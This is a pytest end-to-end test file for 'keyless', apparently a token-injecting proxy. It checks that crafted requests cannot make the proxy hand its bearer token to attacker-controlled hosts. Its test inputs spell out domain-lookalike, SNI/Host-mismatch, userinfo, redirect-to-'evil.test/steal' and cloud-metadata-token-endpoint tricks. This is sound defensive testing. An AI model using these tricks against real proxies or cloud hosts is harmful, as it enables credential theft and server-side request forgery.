"""The confused-deputy threat: crafted requests try to make keyless hand its token elsewhere.

keyless here dials the one real catalog host it knows (RECORDER_HOST:443) to the catalog
recorder and *everything else* to attacker-controlled recorders. Every attempt carries key
material, so keyless is tempted to convert. No attempt may deliver a token anywhere but the
catalog recorder, and the catalog recorder gets one only when every name agrees.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import requests

from tests.e2e.conftest import DEAD_PROXY_ENV, RECORDER_HOST
from tests.support.keyless import KeylessProcess
from tests.support.rawclient import plain, request, status_of, tunnel
from tests.support.upstreams import RecordingServer

pytestmark = pytest.mark.e2e
KEY = {"Authorization": "SharedKey acct:c2lnbmF0dXJl", "x-ms-version": "2021-08-06"}
EVIL_NAMES = ("evil.test", "acct.blob.core.windows.net.evil.test", "evilcore.windows.net",
              "hijacked.blob.core.windows.net.evil.test")


class Leaky:
    def __init__(self, keyless: KeylessProcess, evil_tls: RecordingServer,
                 evil_plain: RecordingServer, catalog: RecordingServer) -> None:
        self.keyless, self.evil_tls, self.evil_plain, self.catalog = (
            keyless, evil_tls, evil_plain, catalog)

    @property
    def port(self) -> int:
        return self.keyless.port

    @staticmethod
    def tokens(server: RecordingServer, since: int = 0) -> list[str]:
        found = []
        for seen in server.requests[since:]:
            for name, value in seen["headers"].items():
                if "bearer" in value.lower() or "eyj" in value.lower() or "aad" in value.lower():
                    found.append(f"{name}: {value[:20]}…")
        return found

    def marks(self) -> tuple[int, int, int]:
        return (len(self.evil_tls.requests), len(self.evil_plain.requests),
                len(self.catalog.requests))

    def assert_no_leak(self, marks: tuple[int, int, int], catalog_token: bool = False) -> None:
        evil = self.tokens(self.evil_tls, marks[0]) + self.tokens(self.evil_plain, marks[1])
        assert evil == [], f"token delivered to an attacker: {evil}"
        catalog = self.tokens(self.catalog, marks[2])
        if catalog_token:
            assert catalog, "expected the catalog host to get its token"
        else:
            assert catalog == [], f"token attached although names disagreed: {catalog}"


@pytest.fixture(scope="module")
def leaky(tmp_path_factory, pki, module_identity, catalog_recorder) -> Iterator[Leaky]:
    with RecordingServer(tls=pki.issue_server_cert(*EVIL_NAMES)) as evil_tls, \
            RecordingServer() as evil_plain:
        process = KeylessProcess(
            tmp_path_factory.mktemp("keyless-leaks"),
            [
                "--connect-to", f"{RECORDER_HOST}:443:127.0.0.1:{catalog_recorder.port}",
                "--connect-to", f":80:127.0.0.1:{evil_plain.port}",
                "--connect-to", f"::127.0.0.1:{evil_tls.port}",  # everything else: attacker
                "--set", f"ssl_verify_upstream_trusted_ca={pki.ca_pem_path}",
            ],
            {**module_identity.env(), **DEAD_PROXY_ENV},
        ).start()
        try:
            yield Leaky(process, evil_tls, evil_plain, catalog_recorder)
        finally:
            assert process.stop() == 0, process.log()


def test_control_all_names_agree_and_the_catalog_host_gets_its_token(leaky):
    marks = leaky.marks()
    _, response, _ = tunnel(leaky.port, f"{RECORDER_HOST}:443", RECORDER_HOST,
                            request("GET", "/c/b?sig=x", RECORDER_HOST, KEY))
    assert status_of(response) == 200
    leaky.assert_no_leak(marks, catalog_token=True)


# (name, CONNECT target, SNI, Host header)
TUNNEL_ATTEMPTS = [
    ("suffix trick", "acct.blob.core.windows.net.evil.test:443",
     "acct.blob.core.windows.net.evil.test", "acct.blob.core.windows.net.evil.test"),
    ("suffix trick, Host says catalog", "acct.blob.core.windows.net.evil.test:443",
     "acct.blob.core.windows.net.evil.test", RECORDER_HOST),
    ("prefix trick", "evilcore.windows.net:443", "evilcore.windows.net", "evilcore.windows.net"),
    ("trailing dot", f"{RECORDER_HOST}.:443", f"{RECORDER_HOST}.", f"{RECORDER_HOST}."),
    ("trailing dot in Host only", f"{RECORDER_HOST}:443", RECORDER_HOST, f"{RECORDER_HOST}."),
    ("punycode lookalike account", "xn--cct-5cd1b.blob.core.windows.net:443",
     "xn--cct-5cd1b.blob.core.windows.net", "xn--cct-5cd1b.blob.core.windows.net"),
    ("SNI and Host catalog, CONNECT elsewhere", "evil.test:443", RECORDER_HOST, RECORDER_HOST),
    ("Host header differs", f"{RECORDER_HOST}:443", RECORDER_HOST, "evil.test"),
    ("TLS server name differs", f"{RECORDER_HOST}:443", "evil.test", RECORDER_HOST),
    ("no TLS server name", f"{RECORDER_HOST}:443", None, RECORDER_HOST),
    ("userinfo in Host", f"{RECORDER_HOST}:443", RECORDER_HOST, f"evil.test@{RECORDER_HOST}"),
    ("catalog host on another port", f"{RECORDER_HOST}:8443", RECORDER_HOST,
     f"{RECORDER_HOST}:8443"),
    ("IP literal", "127.0.0.1:443", "127.0.0.1", "127.0.0.1"),
    ("Cosmos suffix trick", "acct.documents.azure.com.evil.test:443",
     "acct.documents.azure.com.evil.test", "acct.documents.azure.com.evil.test"),
    ("OpenAI suffix trick", "res.openai.azure.com.evil.test:443", "res.openai.azure.com.evil.test",
     "res.openai.azure.com.evil.test"),
    ("Service Bus prefix trick", "evilservicebus.windows.net:443", "evilservicebus.windows.net",
     "evilservicebus.windows.net"),
    ("Maps lookalike", "atlas.microsoft.com.evil.test:443", "atlas.microsoft.com.evil.test",
     "atlas.microsoft.com.evil.test"),
    ("loopback name", "localhost:443", "localhost", RECORDER_HOST),
]


@pytest.mark.parametrize(("name", "target", "sni", "host"), TUNNEL_ATTEMPTS,
                         ids=[a[0] for a in TUNNEL_ATTEMPTS])
def test_crafted_tunnel_gets_no_token(leaky, name, target, sni, host):
    marks = leaky.marks()
    status, response, _ = tunnel(leaky.port, target, sni,
                                 request("GET", "/c/b?sig=x", host, KEY))
    leaky.assert_no_leak(marks)
    assert status in (200, 400, 403, 502), response[:200]


def test_unicode_lookalike_connect_target_gets_no_token(leaky):
    marks = leaky.marks()
    target = "аcct.blob.core.windows.net:443".encode()  # Cyrillic а
    tunnel(leaky.port, target, None, request("GET", "/", RECORDER_HOST, KEY))
    leaky.assert_no_leak(marks)


def test_absolute_form_url_with_foreign_authority_inside_the_tunnel(leaky):
    marks = leaky.marks()
    tunnel(leaky.port, f"{RECORDER_HOST}:443", RECORDER_HOST,
           request("GET", "https://evil.test/steal", RECORDER_HOST, KEY))
    # the request goes to the CONNECT target only (never evil.test), with or without a token
    evil = leaky.tokens(leaky.evil_tls, marks[0])
    assert evil == [] and len(leaky.evil_tls.requests) == marks[0]


def test_duplicate_host_headers(leaky):
    marks = leaky.marks()
    raw = (f"GET /c/b HTTP/1.1\r\nHost: {RECORDER_HOST}\r\nHost: evil.test\r\n"
           f"Authorization: SharedKey acct:c2ln\r\nConnection: close\r\n\r\n").encode()
    tunnel(leaky.port, f"{RECORDER_HOST}:443", RECORDER_HOST, raw)
    leaky.assert_no_leak(marks)


def test_http2_authority_that_disagrees(leaky):
    import h2.config
    import h2.connection
    import h2.events

    marks = leaky.marks()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "evil.test"),
                          (":path", "/c/b?sig=x"), ("authorization", "SharedKey acct:c2ln")],
                      end_stream=True)
    _status, _response, alpn = tunnel(leaky.port, f"{RECORDER_HOST}:443", RECORDER_HOST,
                                    conn.data_to_send(), alpn=["h2"], timeout=3)
    assert alpn == "h2", "keyless did not speak HTTP/2: the attempt would prove nothing"
    leaky.assert_no_leak(marks)


@pytest.mark.parametrize("target", ["https://evil.test@" + RECORDER_HOST + "/c/b",
                                    "http://evil.test@" + RECORDER_HOST + "/c/b",
                                    f"http://{RECORDER_HOST}/c/b?sig=x"],
                         ids=["https userinfo", "http userinfo", "plain HTTP to catalog host"])
def test_absolute_form_without_tunnel_gets_no_token(leaky, target):
    marks = leaky.marks()
    plain(leaky.port, request("GET", target, RECORDER_HOST, KEY))
    leaky.assert_no_leak(marks)


def test_connect_with_userinfo_gets_no_token(leaky):
    marks = leaky.marks()
    tunnel(leaky.port, f"evil.test@{RECORDER_HOST}:443", RECORDER_HOST,
           request("GET", "/c/b", RECORDER_HOST, KEY))
    leaky.assert_no_leak(marks)


@pytest.mark.parametrize("target", ["169.254.169.254:80", "[fd00:ec2::254]:80",
                                    "168.63.129.16:80", "169.254.169.254:443"])
def test_metadata_endpoints_are_refused_outright(leaky, target):
    marks = leaky.marks()
    status, response, _ = tunnel(leaky.port, target, None, b"")
    assert status == 403 and b"KeylessDestinationDenied" in response
    leaky.assert_no_leak(marks)


def test_plain_http_to_metadata_endpoint_is_refused(leaky):
    response = plain(leaky.port, request(
        "GET", "http://169.254.169.254/metadata/identity/oauth2/token?resource=x",
        "169.254.169.254", {"Metadata": "true"}))
    assert status_of(response) == 403 and b"KeylessDestinationDenied" in response


def test_hijacked_catalog_name_with_a_foreign_certificate_gets_nothing(leaky):
    # hijacked.blob.core.windows.net is a catalog name, but its "server" (the attacker's)
    # cannot show a certificate for it: keyless' upstream TLS check stops the request.
    marks = leaky.marks()
    _status, response, _ = tunnel(
        leaky.port, "hijacked.blob.core.windows.net:443", "hijacked.blob.core.windows.net",
        request("GET", "/c/b?sig=x", "hijacked.blob.core.windows.net", KEY))
    assert status_of(response) == 502, response[:300]
    assert len(leaky.evil_tls.requests) == marks[0], "the attacker received an HTTP request"
    leaky.assert_no_leak(marks)


def test_redirect_to_a_foreign_host_is_not_followed_with_a_token(leaky, monkeypatch):
    leaky.catalog.responses["/moved"] = (302, {"Location": "https://evil.test/steal"})
    monkeypatch.setenv("HTTPS_PROXY", leaky.keyless.proxy_url)
    monkeypatch.delenv("NO_PROXY", raising=False)
    marks = leaky.marks()
    response = requests.get(f"https://{RECORDER_HOST}/moved?sig=x", headers=KEY, verify=False,
                            timeout=10)
    assert response.status_code == 200
    assert response.url == "https://evil.test/steal"  # the app followed, keyless did not help
    assert len(leaky.evil_tls.requests) > marks[0]
    leaky.assert_no_leak(marks, catalog_token=True)
